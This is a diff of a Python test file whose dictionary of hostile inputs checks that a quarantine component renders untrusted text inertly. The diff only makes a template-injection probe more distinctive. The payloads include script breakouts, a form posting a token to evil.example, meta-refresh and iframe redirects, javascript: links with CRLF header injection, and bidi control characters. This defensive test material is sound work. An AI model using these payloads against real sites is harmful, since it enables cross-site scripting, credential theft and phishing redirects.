@@ -31,7 +31,7 @@ HOSTILE = {
     "breaks out": f"\"'></mark></div></textarea></title><script>{RUNS}</script><style>body{{display:none}}</style>",
     "form": '</form><form action="https://evil.example/"><input name=token><button>Release</button></form><base href="https://evil.example/">',
     "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><iframe src="https://evil.example/"></iframe>',
-    "template": "{{ 7 * 7 }}{% for one in entries %}{{ one }}{% endfor %}{{ token }}${7*7}<%= 7*7 %>",
+    "template": "{{ 123457 * 7 }}{% for one in entries %}{{ one }}{% endfor %}{{ token }}${123457*7}<%= 123457*7 %>",
     "link": "javascript:alert(1) [x](javascript:alert(1)) https://evil.example/\r\nX-Header: 1",
     "bidi": "pay \u202e1000\u202c to \u2066evil\u2069 \u200f\u061c",
     "nul": "before\x00after\x1b[31mred\x7f\x85\u2028",
@@ -89,7 +89,7 @@ def test_hostile_text_is_text(quarantine: Quarantine, name: str) -> None:
         assert not re.search(
             "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]", answer.text
         )
-        assert "{{ 7 * 7 }}" in answer.text or "49" not in answer.text
+        assert "864199" not in answer.text
         assert len(answer.content) < 300_000
     assert answer.text.count('action="') == 1
 
